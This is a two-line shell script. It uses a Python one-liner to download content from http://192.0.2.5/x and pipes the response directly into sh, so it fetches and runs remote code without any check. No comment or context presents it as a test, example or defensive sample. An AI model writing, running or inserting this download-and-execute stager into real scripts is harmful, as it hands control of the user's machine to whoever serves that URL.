#!/bin/sh
python3 -c 'import urllib.request as u; print(u.urlopen("http://192.0.2.5/x").read().decode())' | sh
